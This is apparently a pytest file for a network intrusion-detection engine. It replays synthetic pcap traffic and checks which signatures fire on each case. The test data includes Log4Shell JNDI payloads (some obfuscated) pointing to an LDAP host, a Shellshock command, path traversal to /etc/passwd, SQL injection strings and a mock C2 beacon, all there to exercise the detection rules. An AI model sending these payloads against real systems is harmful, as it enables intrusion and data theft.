"""The demonstration feed in front of the real engine: what it stops, what it logs, and what it leaves alone.

Packets are made here and inspected in one run, as if the engine stood in the wire. Every case has a client address
of its own, by which its alerts are found again.
"""

from __future__ import annotations

import dataclasses
import ipaddress
import ssl
import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from omamori_firmware.cache import Cache, default_directory
from omamori_firmware.dataplane.engine import obtain_engine_tree
from omamori_firmware.recipe import source_tree
from omamori_signatures.compiler import compile_feed
from omamori_signatures.engine import Engine
from omamori_signatures.errors import EngineError

pytestmark = pytest.mark.root

DEMO = Path(__file__).resolve().parents[2] / "signatures" / "demo"
SERVER = "192.168.10.20"
WEB = "198.51.100.10"
RESOLVER = "192.168.10.1"
# Assembled here, so that this file never upsets a virus scanner.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS" + rb"-TEST-FILE!$H+H*"
CHROME = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36"

DANGEROUS, C2, GAMES, SNS, MALWARE = 1910000, 1910020, 1910040, 1910060, 1910080
DNS, HTTP, TLS = 0, 2, 4  # offsets of the rules for a registrable domain


class Capture:
    """Writes packets in the format of libpcap."""

    def __init__(self) -> None:
        self._records = [struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 101)]
        self._microseconds = 1_700_000_000_000_000

    def save(self, path: Path) -> Path:
        path.write_bytes(b"".join(self._records))
        return path

    def _packet(self, source: str, target: str, protocol: int, payload: bytes) -> None:
        addresses = ipaddress.ip_address(source).packed + ipaddress.ip_address(target).packed
        if len(addresses) == 8:
            header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(payload), 0, 0, 64, protocol, 0) + addresses
            total = sum(struct.unpack(">10H", header))
            total = (total & 0xFFFF) + (total >> 16)
            header = header[:10] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + header[12:]
        else:
            header = struct.pack(">IHBB", 0x60000000, len(payload), protocol, 64) + addresses
        packet = header + payload
        self._microseconds += 1000
        seconds, rest = divmod(self._microseconds, 1_000_000)
        self._records.append(struct.pack("<IIII", seconds, rest, len(packet), len(packet)) + packet)

    def udp(self, source: str, target: str, port: int, data: bytes, *, source_port: int = 40000) -> None:
        self._packet(source, target, 17, struct.pack(">HHHH", source_port, port, 8 + len(data), 0) + data)

    def syn(self, source: str, target: str, port: int) -> None:
        self._segment(source, target, (40000, port), (1, 0), 0x02)

    def connection(self, source: str, target: str, port: int, *turns: tuple[str, bytes]) -> None:
        """Play a whole TCP connection; each turn is ("client" or "server", bytes)."""
        there, back = (40000 + port % 1000, port), (port, 40000 + port % 1000)
        mine, yours = 1000, 5000
        self._segment(source, target, there, (mine, 0), 0x02)
        self._segment(target, source, back, (yours, mine + 1), 0x12)
        mine, yours = mine + 1, yours + 1
        self._segment(source, target, there, (mine, yours), 0x10)
        for who, data in turns:
            for start in range(0, len(data), 1400):
                part = data[start : start + 1400]
                if who == "client":
                    self._segment(source, target, there, (mine, yours), 0x18, part)
                    mine += len(part)
                    self._segment(target, source, back, (yours, mine), 0x10)
                else:
                    self._segment(target, source, back, (yours, mine), 0x18, part)
                    yours += len(part)
                    self._segment(source, target, there, (mine, yours), 0x10)
        self._segment(source, target, there, (mine, yours), 0x11)
        self._segment(target, source, back, (yours, mine + 1), 0x11)

    def _segment(
        self, source: str, target: str, ports: tuple[int, int], numbers: tuple[int, int], flags: int, data: bytes = b""
    ) -> None:
        self._packet(source, target, 6, struct.pack(">HHIIBBHHH", *ports, *numbers, 0x50, flags, 65535, 0, 0) + data)


def http_get(
    uri: str, *, host: str = "office.example", agent: str = CHROME, headers: str = "", method: str = "GET"
) -> bytes:
    body = f"{method} {uri} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n{headers}\r\n"
    return body.encode()


def http_answer(body: bytes = b"ok", kind: str = "text/html") -> bytes:
    return f"HTTP/1.1 200 OK\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n".encode() + body


def dns_query(name: str) -> bytes:
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def client_hello(name: str) -> bytes:
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = ssl.create_default_context().wrap_bio(incoming, outgoing, server_hostname=name)
    with pytest.raises(ssl.SSLWantReadError):
        session.do_handshake()
    return outgoing.read()


@dataclasses.dataclass(frozen=True)
class Case:
    """Traffic of one client, and the rules that it must and may only raise."""

    name: str
    client: str
    play: Callable[[Capture, str], None]
    expected: tuple[int, ...] = ()


def request_in(uri: str, **options: str) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        capture.connection(client, SERVER, 80, ("client", http_get(uri, **options)), ("server", http_answer()))

    return play


def request_out(uri: str, host: str, **options: str) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        request = http_get(uri, host=host, **options)
        capture.connection(client, WEB, 80, ("client", request), ("server", http_answer()))

    return play


def tls(name: str) -> Callable[[Capture, str], None]:
    return lambda capture, client: capture.connection(client, WEB, 443, ("client", client_hello(name)))


def dns(*names: str) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        for number, name in enumerate(names):
            capture.udp(client, RESOLVER, 53, dns_query(name), source_port=40000 + number)

    return play


def download(port: int, body: bytes) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        answer = http_answer(body, "application/octet-stream")
        capture.connection(client, WEB, port, ("client", http_get("/file.bin", host=WEB)), ("server", answer))

    return play


def post(uri: str, body: str, **options: str) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        head = http_get(uri, method="POST", headers=f"Content-Length: {len(body)}\r\n", **options)
        capture.connection(client, SERVER, 80, ("client", head + body.encode()), ("server", http_answer()))

    return play


def scan(count: int, first_port: int) -> Callable[[Capture, str], None]:
    def play(capture: Capture, client: str) -> None:
        for number in range(count):
            capture.syn(client, SERVER, first_port + number)

    return play


JNDI = "${jndi:ldap://203.0.113.66/a}"
NESTED = "${${lower:j}${lower:n}${lower:d}i:${lower:ldap}://203.0.113.66/a}"
DEFAULTS = "${${::-j}${::-n}${::-d}${::-i}:ldap://203.0.113.66/a}"

OFFICE = [
    ("a listed domain by DNS", dns("malware.test"), (DANGEROUS + DNS,)),
    ("… in other letters", dns("WWW.MalWare.TEST"), (DANGEROUS + DNS,)),
    ("… by HTTP", request_out("/", "malware.test"), (DANGEROUS + HTTP,)),
    ("… below it, with a port", request_out("/", "a.b.malware.test:80"), (DANGEROUS + HTTP,)),
    ("… by TLS", tls("www.phishing.test"), (DANGEROUS + TLS,)),
    ("a C2 domain", tls("c2.test"), (C2 + TLS,)),
    ("a logged category", request_out("/", "www.games.test"), (GAMES + HTTP,)),
    ("another logged category", tls("sns.test"), (SNS + TLS,)),
    ("neighbours of a listed domain", dns("notmalware.test", "malware.test.example", "test", "malware.tes"), ()),
    ("a neighbour by HTTP", request_out("/malware.test", "good.test", headers="Referer: http://malware.test/\r\n"), ()),
    ("a neighbour by TLS", tls("xmalware.test"), ()),
    ("the EICAR file", download(80, EICAR), (MALWARE,)),
    ("the EICAR file from another port", download(8081, EICAR), (MALWARE,)),
    ("a file that only begins like it", download(80, EICAR + b"\n"), ()),
    ("a large file", download(80, bytes(range(256)) * 800), ()),
    ("the beacon", request_out("/gate/checkin?bot=0badcafe1234", "203.0.113.77", method="POST"), (1900500,)),
    ("the beacon's agent", request_out("/x", "203.0.113.77", agent="OmamoriDemoBeacon/1.0"), (1900501,)),
    ("both at once: one alert", request_out("/gate/checkin?bot=0badcafe1234&v=2", "c.example", method="POST",
                                            agent="OmamoriDemoBeacon/1.0"), (1900500,)),
    ("an office calling attacks by name", request_out("/search?q=%24%7Bjndi%3Aldap%7D", "search.example"), ()),
]  # fmt: skip

INTERNET = [
    ("Log4Shell in the agent", request_in("/login", agent=JNDI), (1900001,)),
    ("Log4Shell in another header", request_in("/", headers=f"X-Api-Version: {JNDI}\r\n"), (1900001,)),
    ("Log4Shell in a cookie", request_in("/", headers=f"Cookie: id={JNDI}\r\n"), (1900001,)),
    ("Log4Shell nested", request_in("/", agent=NESTED), (1900001,)),
    ("Log4Shell by default values", request_in("/", agent=DEFAULTS), (1900001,)),
    ("Log4Shell in capitals", request_in("/", agent="${JNDI:LDAP://203.0.113.66/a}"), (1900001,)),
    ("Log4Shell in the address", request_in("/?x=$%7Bjndi:ldap://203.0.113.66/a%7D"), (1900000,)),
    ("Log4Shell in a form", post("/login", f"user={JNDI}"), (1900002,)),
    ("Shellshock in the agent", request_in("/cgi-bin/status", agent="() { :; }; /bin/ping 203.0.113.66"), (1900010,)),
    ("Shellshock in a cookie", request_in("/", headers="Cookie: () { :;}; echo x\r\n"), (1900010,)),
    ("path traversal", request_in("/files/../../../../etc/passwd"), (1900020,)),
    ("path traversal, slashes encoded", request_in("/files/..%2f..%2f..%2fetc/passwd"), (1900020,)),
    ("path traversal, dots encoded", request_in("/files/%2e%2e/%2e%2e/etc/passwd"), (1900021,)),
    ("path traversal, encoded twice", request_in("/files/%252e%252e%252f%252e%252e%252fetc"), (1900021,)),
    ("path traversal in a parameter", request_in("/get?file=..\\..\\windows\\win.ini"), (1900020,)),
    ("SQL injection", request_in("/item?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--"), (1900030,)),
    ("SQL injection with plus signs", request_in("/item?id=-1+union+all+select+1,2,3"), (1900030,)),
    ("SQL injection with comments", request_in("/item?id=1/**/UNION/**/SELECT/**/user,1"), (1900030,)),
    ("SQL injection, always true", request_in("/login?user=admin%27%20or%20%271%27=%271"), (1900031,)),
    ("SQL injection, always true, plain", request_in("/login?user=%27+OR+1=1--"), (1900031,)),
    ("sqlmap", request_in("/", agent="sqlmap/1.8#stable (https://sqlmap.org)"), (1900040,)),
    ("Nikto", request_in("/", agent="Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)"), (1900041,)),
    ("Nmap", request_in("/", agent="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
     (1900042,)),
    ("Nuclei", request_in("/", agent="Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"), (1900043,)),
    ("masscan", request_in("/", agent="masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), (1900044,)),
    ("a port scan", scan(60, 1000), (1900050,)),
    ("connections to many ports, but not that many", scan(29, 1000), ()),
    ("a busy visitor of the web server", lambda capture, client: [capture.syn(client, SERVER, 443) for _ in range(200)],
     ()),
]  # fmt: skip

ORDINARY_URIS = [
    "/", "/index.html?utm_source=mail&utm_medium=cpc&id=1", "/search?q=credit+union+select+rate",
    "/search?q=union%20select%20committee%20report", "/search?q=O%27Reilly%20or%20Addison", "/search?q=it%27s+1+or+2",
    "/search?q=rock+%27n%27+roll+and+blues", "/a/../b.css", "/js/app..min.js", "/download/v1...v2.diff",
    "/search?q=%E3%81%8A%E5%AE%88%E3%82%8A&page=2", "/price?tpl=$%7Bprice%7D", "/api/%7B%22a%22%3A%5B%5D%7D",
    "/q?f=function()%20%7B%20return%201%3B%20%7D", "/wiki/Select_(SQL)", "/img/100%25.png",
    "/x?redirect=%2Fhome%2Fuser",
    "/docs/union-all-select.html", "/t?s=select%20a%20union%20representative", "/?d=jndi", "/?q=name%3D%27a%27",
    "/gate/checkin?bot=0badcafe1234", "/archive?q=select+from+union", "/v?range=1..5",
]  # fmt: skip
ORDINARY_HEADERS = [
    "Cookie: session=${id}; theme=dark; _ga=GA1.2.3\r\n", "Referer: https://example.com/?q=() tests\r\n",
    "X-Template: function() { return 1 }\r\n", "Accept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n",
    "X-Note: ${date:yyyy} ${env:HOME} ${sys:java.version}\r\n", "Cookie: json={\"a\":{\"b\":1}}; x=()\r\n",
    "Authorization: Bearer eyJhbGciOiJub25lIn0.e30.\r\n",
]  # fmt: skip
ORDINARY_AGENTS = ["curl/8.5.0", "nucleus-app/2.0", "Scanner Pro/8.1 CFNetwork", "", "python-requests/2.32"]


def all_cases() -> list[Case]:
    office = [
        Case(name, f"192.168.10.{100 + number}", play, expected) for number, (name, play, expected) in enumerate(OFFICE)
    ]
    internet = [
        Case(name, f"203.0.113.{100 + number}", play, expected)
        for number, (name, play, expected) in enumerate(INTERNET)
    ]
    ordinary = [request_in(uri) for uri in ORDINARY_URIS]
    ordinary += [request_in("/", headers=header) for header in ORDINARY_HEADERS]
    ordinary += [request_in("/", agent=agent) for agent in ORDINARY_AGENTS]
    ordinary += [post("/form", "text=${price} () { } ../../x ' or a=b union select")]
    quiet = [
        Case(f"ordinary request {number}", f"198.51.100.{100 + number}", play) for number, play in enumerate(ordinary)
    ]
    six = [
        Case("Log4Shell over IPv6", "2001:db8::66", request_in_six, (1900001,)),
        Case("a listed domain over IPv6", "fd00:10::11", request_out_six, (DANGEROUS + HTTP,)),
    ]
    return office + internet + quiet + six


def request_in_six(capture: Capture, client: str) -> None:
    capture.connection(client, "fd00:10::20", 80, ("client", http_get("/", agent=JNDI)), ("server", http_answer()))


def request_out_six(capture: Capture, client: str) -> None:
    request = http_get("/", host="malware.test")
    capture.connection(client, "2001:db8::10", 80, ("client", request), ("server", http_answer()))


CASES = all_cases()


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine.in_root(obtain_engine_tree(source_tree(), Cache(default_directory())))


@pytest.fixture(scope="module")
def alerts(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[dict[str, Any]]]:
    """Return the alerts of every case by its client's address."""
    feed = compile_feed(DEMO, serial=1, created="2030-01-01T00:00:00Z", channel="demo")
    capture = Capture()
    for case in CASES:
        case.play(capture, case.client)
    found: dict[str, list[dict[str, Any]]] = {case.client: [] for case in CASES}
    assert len(found) == len(CASES)
    path = capture.save(tmp_path_factory.mktemp("capture") / "cases.pcap")
    for event in engine.replay(feed.manifest, feed.files, path):
        ends = [str(ipaddress.ip_address(event[key])) for key in ("src_ip", "dest_ip")]
        (client,) = [end for end in ends if end in found]
        found[client].append(event["alert"])
    return found


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_case_raises_exactly_its_rules(alerts: dict[str, list[dict[str, Any]]], case: Case) -> None:
    found = [(alert["signature_id"], alert["signature"]) for alert in alerts[case.client]]
    assert tuple(sid for sid, _ in found) == case.expected, found


def test_logged_categories_pass_and_everything_else_is_blocked(alerts: dict[str, list[dict[str, Any]]]) -> None:
    for alert in [alert for found in alerts.values() for alert in found]:
        is_logged = GAMES <= alert["signature_id"] < MALWARE
        assert alert["action"] == ("allowed" if is_logged else "blocked"), alert["signature"]


def test_alerts_carry_what_the_box_maps_them_by(alerts: dict[str, list[dict[str, Any]]]) -> None:
    metadata = {alert["signature_id"]: alert["metadata"] for found in alerts.values() for alert in found}
    assert metadata[1900001] == {
        "omamori_function": ["ips"], "omamori_severity": ["1"], "omamori_direction": ["in"]
    }  # fmt: skip
    assert metadata[1900500]["omamori_severity"] == ["3"]
    assert metadata[1900500]["omamori_direction"] == ["out"]
    assert metadata[GAMES + HTTP]["omamori_category"] == ["games"]
    assert metadata[C2 + TLS]["omamori_severity"] == ["3"]
    assert metadata[MALWARE] == {"omamori_function": ["virus"], "omamori_severity": ["2"]}


def test_entry_that_is_a_host_name_matches_itself_alone_and_once(engine: Engine, tmp_path: Path) -> None:
    source = copy_demo(tmp_path, dangerous="evil.shop.example.co.jp\nblog.example\n")
    feed = compile_feed(source, serial=1, created="2030-01-01T00:00:00Z", channel="demo")
    names = (
        "evil.shop.example.co.jp",
        "shop.example.co.jp",
        "x.evil.shop.example.co.jp",
        "blog.example",
        "a.blog.example",
    )
    capture = Capture()
    for number, name in enumerate(names):
        client = f"192.168.10.{100 + number}"
        dns(name)(capture, client)
        request_out("/", name)(capture, client)
        tls(name)(capture, client)
    events = engine.replay(feed.manifest, feed.files, capture.save(tmp_path / "names.pcap"))
    found = {number: [] for number in range(len(names))}  # type: dict[int, list[int]]
    for event in events:
        found[int(event["src_ip"].rsplit(".", 1)[1]) - 100].append(event["alert"]["signature_id"] - DANGEROUS)
    assert {number: sorted(sids) for number, sids in found.items()} == {
        0: [DNS + 1, HTTP + 1, TLS + 1],
        1: [],
        2: [],
        3: [DNS, HTTP, TLS],
        4: [DNS, HTTP, TLS],
    }


def test_engine_refuses_rules_with_its_reasons(engine: Engine, tmp_path: Path) -> None:
    source = copy_demo(tmp_path)
    rules = source / "rules/intrusion.rules"
    broken = rules.read_text().replace("http.request_header;", "http.no_such_buffer;", 1)
    rules.write_text(broken)
    feed = compile_feed(source, serial=1, created="2030-01-01T00:00:00Z", channel="demo")
    with pytest.raises(EngineError) as caught:
        engine.test(feed.manifest, feed.files)
    assert any("no_such_buffer" in reason for reason in caught.value.reasons)


def test_engine_takes_a_feed_of_empty_lists(engine: Engine, tmp_path: Path) -> None:
    source = copy_demo(tmp_path, dangerous="", malware="", c2="", games="", sns="", addresses="")
    feed = compile_feed(source, serial=1, created="2030-01-01T00:00:00Z", channel="demo")
    engine.test(feed.manifest, feed.files)


def copy_demo(directory: Path, **lists: str) -> Path:
    source = directory / "source"
    for path in DEMO.rglob("*"):
        if path.is_file():
            target = source / path.relative_to(DEMO)
            target.parent.mkdir(parents=True, exist_ok=True)
            target.write_bytes(path.read_bytes())
    for name, content in lists.items():
        (source / f"lists/{name}.txt").write_text(content)
    return source
